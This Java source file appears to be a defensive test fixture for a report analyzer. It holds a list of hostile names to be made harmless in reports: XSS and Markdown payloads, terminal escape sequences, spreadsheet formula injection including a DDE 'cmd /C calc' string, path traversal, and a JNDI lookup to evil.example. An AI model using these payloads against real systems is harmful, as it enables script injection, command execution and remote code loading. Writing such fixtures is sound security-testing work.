package io.carrierscope.analyzer.hostile;

import java.util.List;

/** Names that would do harm where a report is read, if they were not made harmless. */
public final class Hostile {
    static final int LONG = 1 << 20;
    /** Stands in every name, so that names can be found in what is written. */
    public static final String MARK = "Carr1er";

    /** Each for another reader: a browser, a page's script, a Markdown renderer, a terminal, a spreadsheet, a file system, a parser. */
    public static final List<String> NAMES = List.of(MARK + "<script>pwned=1</script>",
            "\"><img src=x onerror=pwned=1>" + MARK, "'onmouseover='pwned=1'" + MARK,
            "]]></style></svg><svg onload=pwned=1>" + MARK, "<!--" + MARK + "--!><base href=//evil.example>",
            MARK + "&lt;b&gt; &#x3c;i&#x3e;", "[" + MARK + "](javascript:pwned=1)",
            "![" + MARK + "](http://evil.example/x.png)", "http://evil.example/" + MARK, "www.evil.example " + MARK,
            "@team " + MARK, "`" + MARK + "` | **b** | # h\n\n# h", "\u001b]0;" + MARK + "\u0007\u001b[2J\u001b[31m",
            "\u009b31m" + MARK, MARK + "\r\nline\u2028line\u2029line\u0085line", "\u202e" + MARK + "gpj.exe\u2066",
            "=HYPERLINK(\"http://evil.example\")" + MARK, "+cmd|' /C calc'!A0 " + MARK, "-2+3 " + MARK,
            "@SUM(1) " + MARK, "\t=1 " + MARK, "\uFF1D1+1 " + MARK, "a\",\"b;c\n=1," + MARK, "../../../../tmp/" + MARK,
            "C:\\..\\..\\" + MARK, "/etc/" + MARK, MARK + " \ud800 lone \udc00", MARK + "\u0000nul",
            "${jndi:ldap://evil.example/" + MARK + "} {{7*7}} %s%n%x", MARK + "x".repeat(LONG));

    private Hostile() {}

    /** The name as the JVM allows a class to be called: a slash separates packages, and 65,535 bytes are the most. */
    static String className(String name) {
        String legal = name.replace('.', '_').replace(';', '_').replace('[', '_').replace("//", "/_");
        String cut = legal.substring(0, Math.min(legal.length(), 60_000));
        return "hostile/p" + cut.replace("\ud800", "").replace("\udc00", "").replaceAll("^/|/$", "_");
    }
}
